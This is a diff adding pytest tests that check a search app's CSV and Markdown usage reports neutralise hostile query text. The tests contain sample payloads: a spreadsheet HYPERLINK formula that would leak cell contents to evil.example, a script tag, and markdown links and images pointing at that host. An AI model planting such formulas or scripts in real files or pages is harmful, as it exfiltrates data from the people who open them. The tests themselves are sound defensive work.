@@ -21,6 +21,10 @@ import xml.etree.ElementTree as ET
 from html.parser import HTMLParser
 from pathlib import Path
 
+import csv
+import io
+
+import markdown
 import pytest
 import yaml
 
@@ -243,6 +247,50 @@ def test_feeds_carry_no_markup_that_runs(hostile, url):
         for name, value in el.attrib.items():
             if name == "href":
                 assert not BAD_SCHEME.match(value.strip()), f"{url}: {value}"
+
+
+def report_app(hostile, tmp_path):
+    """The hostile site with a committee token, so reports hold the queries."""
+    settings = {k: hostile.application.config[k] for k in ("CONTENT_DIR", "INDEX_DIR")}
+    app = create_app({**settings, "USAGE_DB": str(tmp_path / "usage.sqlite3"), "KM_TOKEN": "t0ken"})
+    app.testing = True
+    client = app.test_client()
+    for p in PAYLOADS:
+        # The report lists the 20 most frequent queries: these among them.
+        for _ in range(3 if p.lstrip()[:1] in "=+-@\t＝#`1" else 1):
+            client.get("/search", query_string={"q": p})
+    return client
+
+
+def test_no_cell_of_the_csv_report_is_a_formula(hostile, tmp_path):
+    from kmsearch.indicators import FORMULA_START
+
+    client = report_app(hostile, tmp_path)
+    resp = client.get("/km/report.csv", headers={"Authorization": "Bearer t0ken"})
+    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
+    cells = [c for row in rows for c in row]
+    assert not [c for c in cells if c.lstrip(" \n").startswith(FORMULA_START)]
+    # Shown as typed, an apostrophe first: a title and a query.
+    assert "'=hyperlink(\"http://evil.example/?leak=\"&a1,\"x\")" in cells       # queries are kept lower case
+    assert any(c.startswith("คู่มือ =HYPERLINK(") for c in cells)
+
+
+def test_the_markdown_report_shows_hostile_text_as_text(hostile, tmp_path):
+    client = report_app(hostile, tmp_path)
+    md = client.get("/km/report.md", headers={"Authorization": "Bearer t0ken"}).get_data(as_text=True)
+    rendered = markdown.markdown(md, extensions=["tables"])
+    assert not unsafe_markup(rendered, page=False)
+    parser = _Collect()
+    parser.feed(rendered)
+    own = {"h1", "h2", "h3", "p", "br", "strong", "table", "thead", "tbody", "tr", "th", "td"}
+    assert {tag for tag, _ in parser.tags} <= own
+    for table in re.findall(r"(?:^\|.*\n)+", md, re.M):
+        widths = {len(re.findall(r"(?<!\\)\|", row)) for row in table.splitlines()}
+        assert len(widths) == 1, f"a pipe in a title or query adds a column: {table[:300]}"
+    text = html.unescape(re.sub(r"<[^>]+>", "", rendered))
+    for shown in ("คู่มือ <script>alert(1)</script>", "`code` **bold** [link](https://evil.example/) <b>bold</b>",
+                  "#heading | cell | ![t](https://evil.example/t.png)", "1. list item > quote \\| escaped pipe"):
+        assert shown in text, shown
 
 
 def test_the_checker_catches_what_it_must():
